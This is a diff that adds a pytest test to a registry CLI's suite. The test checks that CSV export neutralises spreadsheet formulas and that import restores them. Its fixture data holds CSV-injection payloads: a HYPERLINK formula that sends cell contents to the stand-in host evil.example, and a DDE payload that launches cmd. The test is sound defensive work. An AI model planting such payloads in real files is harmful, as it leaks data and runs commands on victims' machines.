@@ -320,6 +320,34 @@ def test_export_import_round_trip(cli: Invoke, home: Home, tmp_path: Path, suffi
     ok(cli("registry", "export", str(exported), "--force"))
 
 
+def test_export_neutralises_formulas_and_imports_them_back(cli: Invoke, home: Home,
+                                                           tmp_path: Path) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run as a formula is exported with a
+    leading "'", and import drops exactly that prefix (also from a value that began with "'")."""
+    hostile = [
+        (USCC, '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("914403001922038216", "+1+2景德镇瓷厂", "-2+3 珠山中路"),
+        ("91330000704202479R", "'引号开头的瓷厂", "'=already quoted"),
+    ]
+    source = tmp_path / "hostile.json"
+    source.write_text(json.dumps([
+        {**good_row(number, uscc), "name": name, "address": address}
+        for number, (uscc, name, address) in enumerate(hostile, start=1)
+    ], ensure_ascii=False), encoding="utf-8")
+    ok(cli("registry", "import", str(source)))
+    exported = tmp_path / "export.csv"
+    ok(cli("registry", "export", str(exported)))
+    with exported.open(encoding="utf-8", newline="") as stream:
+        cells = {row["uscc"]: (row["name"], row["address"]) for row in csv.DictReader(stream)}
+    assert cells == {uscc: (f"'{name}", f"'{address}") for uscc, name, address in hostile}
+    other = tmp_path / "other-home"
+    initialize(Home(other))
+    ok(cli("--home", str(other), "registry", "import", str(exported)))
+    copy = json.loads(ok(cli("--home", str(other), "registry", "list", "--json")).stdout)
+    assert [(e["uscc"], e["name"], e["address"]) for e in copy] == hostile
+    assert copy == listed(cli)
+
+
 # ---------------------------------------------------------------- audit
 
 
